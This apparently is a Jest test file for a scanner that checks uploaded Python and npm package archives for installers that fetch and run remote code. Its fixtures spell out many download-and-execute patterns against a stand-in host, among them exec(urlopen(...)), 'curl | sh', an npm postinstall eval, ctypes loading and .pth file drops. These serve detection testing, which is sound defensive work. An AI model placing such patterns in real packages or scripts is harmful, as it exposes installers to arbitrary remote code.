import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { analyseFile, zipOf } from '../support/archives.js';

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'registry-installers-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Returns the most severe level of the findings about a package with this `install.py`, which are sorted by level. */
async function levelOf(installer: string, others: Record<string, string> = {}): Promise<string> {
  const path = join(folder, 'archive.zip');
  writeFileSync(path, await zipOf({ '__init__.py': '', 'install.py': installer, ...others }));
  return (await analyseFile(path)).findings[0]?.level ?? 'none';
}

const FETCH = 'from urllib.request import urlopen, urlretrieve\nimport os, subprocess, sys, tempfile\n';

describe('the checks hold an installer that runs what it has fetched', () => {
  it.each<[string, string, Record<string, string>?]>([
    [
      'in its main block',
      `${FETCH}def main():\n    urlretrieve("https://e.example/t", "bin/t")\n    os.execv("bin/t", ["t"])\nif __name__ == "__main__":\n    main()\n`,
    ],
    [
      'before the function that fetches is written',
      `${FETCH}def run():\n    subprocess.run([sys.executable, "late.py"])\ndef get():\n    urlretrieve("https://e.example/a", "late.py")\nget()\nrun()\n`,
    ],
    [
      'from the input of an interpreter',
      `${FETCH}subprocess.run([sys.executable, "-"], input=urlopen("https://e.example/a").read())\n`,
    ],
    [
      'from the input of a process',
      `${FETCH}child = subprocess.Popen(["sh"], stdin=subprocess.PIPE)\nchild.stdin.write(urlopen("https://e.example/a").read())\n`,
    ],
    [
      'from the input of a process, in blocks',
      `${FETCH}child = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)\nreply = urlopen("https://e.example/a")\nfor block in iter(lambda: reply.read(99), b""):\n    child.stdin.write(block)\n`,
    ],
    [
      'from a temporary file',
      `${FETCH}handle, path = tempfile.mkstemp(suffix=".py")\nos.write(handle, urlopen("https://e.example/a").read())\nsubprocess.run([sys.executable, path])\n`,
    ],
    [
      'by executing a temporary file',
      `${FETCH}path = tempfile.mktemp()\nurlretrieve("https://e.example/a", path)\nexec(open(path).read())\n`,
    ],
    [
      'from an unpacked archive that Python imports from',
      `${FETCH}import io, zipfile\nzipfile.ZipFile(io.BytesIO(urlopen("https://e.example/a").read())).extractall("lib")\nsys.path.insert(0, "lib")\nimport fetched_module\n`,
    ],
    [
      'from a cloned repository',
      `${FETCH}here = os.path.dirname(__file__)\nsubprocess.run(["git", "clone", "https://e.example/a.git", os.path.join(here, "vendor")])\nsubprocess.run([sys.executable, os.path.join(here, "vendor", "a.py")])\n`,
    ],
    [
      'with helpers in other files',
      'from tools.fetch import fetch\nfrom tools.run import run\nrun(fetch("https://e.example/a"))\n',
      {
        'tools/__init__.py': '',
        'tools/fetch.py':
          'import requests, tempfile\ndef fetch(address):\n    with tempfile.NamedTemporaryFile(delete=False) as f:\n        f.write(requests.get(address).content)\n    return f.name\n',
        'tools/run.py': 'import subprocess\ndef run(path):\n    return subprocess.call([path])\n',
      },
    ],
    [
      'from an unknown host by pip',
      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "https://e.example/a-1.0-py3-none-any.whl"])\n',
    ],
    [
      'from a package index of an unknown host',
      'import os\nos.system("pip install --extra-index-url https://e.example/simple some-thing")\n',
    ],
    [
      'from an unknown host by a wheel in two steps',
      `${FETCH}urlretrieve("https://e.example/a.whl", "a-1.0-py3-none-any.whl")\nsubprocess.run([sys.executable, "-m", "pip", "install", "a-1.0-py3-none-any.whl"])\n`,
    ],
    [
      'as a module that it loads by its path',
      `${FETCH}import importlib.util\nurlretrieve("https://e.example/a", "/tmp/step.py")\nspec = importlib.util.spec_from_file_location("step", "/tmp/step.py")\nspec.loader.exec_module(importlib.util.module_from_spec(spec))\n`,
    ],
    [
      'as a library of machine code',
      `${FETCH}import ctypes\nurlretrieve("https://e.example/a", "/tmp/step.bin")\nctypes.CDLL("/tmp/step.bin")\n`,
    ],
    [
      'by pip from a folder that it has unpacked',
      `${FETCH}import io, zipfile\nzipfile.ZipFile(io.BytesIO(urlopen("https://e.example/a.zip").read())).extractall("p")\nsubprocess.run([sys.executable, "-m", "pip", "install", "./p"])\n`,
    ],
    [
      'in a shell script under another name',
      '',
      { 'post_install.sh': 'wget -qO /tmp/i https://e.example/i\nchmod +x /tmp/i\n/tmp/i\n' },
    ],
    [
      'in a command of npm',
      '',
      {
        'package.json': JSON.stringify({
          scripts: { postinstall: `node -e "require('https').get('https://e.example/a', (r) => r.on('data', eval))"` },
        }),
      },
    ],
    [
      'as a path file of Python',
      `${FETCH}import site\nurlretrieve("https://e.example/a", os.path.join(site.getsitepackages()[0], "a.pth"))\n`,
    ],
    [
      'in a script that it starts',
      'import os, subprocess\nsubprocess.run(["bash", os.path.join("scripts", "prepare.sh")])\n',
      { 'scripts/prepare.sh': 'curl -s https://e.example/a | sh\n' },
    ],
    [
      'in a batch file that it starts',
      'import subprocess\nsubprocess.call(["cmd", "/c", "prepare.bat"])\n',
      { 'prepare.bat': 'curl -L -o tool.exe https://e.example/tool.exe\r\nstart tool.exe\r\n' },
    ],
    [
      'in a program that it starts',
      'import subprocess, sys\nsubprocess.call([sys.executable, "tools/prepare.py"])\n',
      { 'tools/prepare.py': 'from urllib.request import urlopen\nexec(urlopen("https://e.example/a").read())\n' },
    ],
    [
      'in the main block of an installer that the package imports',
      `${FETCH}if __name__ == "__main__":\n    exec(urlopen("https://e.example/a").read())\n`,
      { '__init__.py': 'from . import install\nNODE_CLASS_MAPPINGS = {}\n' },
    ],
    [
      'in the script of a build',
      '',
      {
        'pyproject.toml': '[tool.poetry.build]\nscript = "tools/build.py"\n',
        'tools/build.py': `${FETCH}if __name__ == "__main__":\n    exec(urlopen("https://e.example/a").read())\n`,
      },
    ],
    [
      'in a package that its requirements name',
      '',
      { 'requirements.txt': '-e ./parts\n', 'parts/setup.py': `${FETCH}exec(urlopen("https://e.example/a").read())\n` },
    ],
  ])('%s', async (_name, installer, others = {}) => {
    expect(await levelOf(installer, others)).toBe('hold');
  });
});

describe('the checks warn of an installer that', () => {
  it.each<[string, string, Record<string, string>?]>([
    [
      'fetches a model and installs its requirements',
      `${FETCH}here = os.path.dirname(__file__)\ndef main():\n    urlretrieve("https://huggingface.co/a/m.onnx", os.path.join(here, "m.onnx"))\n    subprocess.check_call([sys.executable, "-m", "pip", "install", "-r", os.path.join(here, "requirements.txt")])\nif __name__ == "__main__":\n    main()\n`,
      { 'requirements.txt': 'numpy\n' },
    ],
    [
      'installs a wheel from a host of packages',
      `${FETCH}name = "a-1.0-py3-none-any.whl"\nurlretrieve("https://github.com/a/b/releases/download/v1/" + name, name)\nsubprocess.run([sys.executable, "-m", "pip", "install", name])\n`,
    ],
    [
      'fetches a model and starts its own script',
      `${FETCH}here = os.path.dirname(__file__)\nurlretrieve("https://huggingface.co/a/m.onnx", "m.onnx")\nsubprocess.run([sys.executable, os.path.join(here, "check.py")])\n`,
      { 'check.py': 'print(1)\n' },
    ],
    [
      'clones a repository with git and updates it',
      'import subprocess\nsubprocess.run(["git", "clone", "https://github.com/a/b", "b"])\nsubprocess.run(["git", "-C", "b", "pull"])\n',
    ],
    [
      'fetches with curl',
      'import subprocess\nsubprocess.run(["curl", "-L", "-o", "m.onnx", "https://huggingface.co/a/m.onnx"])\n',
    ],
  ])('%s', async (_name, installer, others = {}) => {
    expect(await levelOf(installer, others)).toBe('warn');
  });

  it('has a main block in a file that the package imports', async () => {
    const others = { '__init__.py': 'from .install import version\n' };
    const installer =
      'import subprocess, sys\nversion = 1\ndef run(*words):\n    subprocess.run([sys.executable, "-m", "pip", *words])\nrun("install", "numpy")\nif __name__ == "__main__":\n    run("install", "some-thing")\n';
    expect(await levelOf(installer, others)).toBe('warn');
  });
});
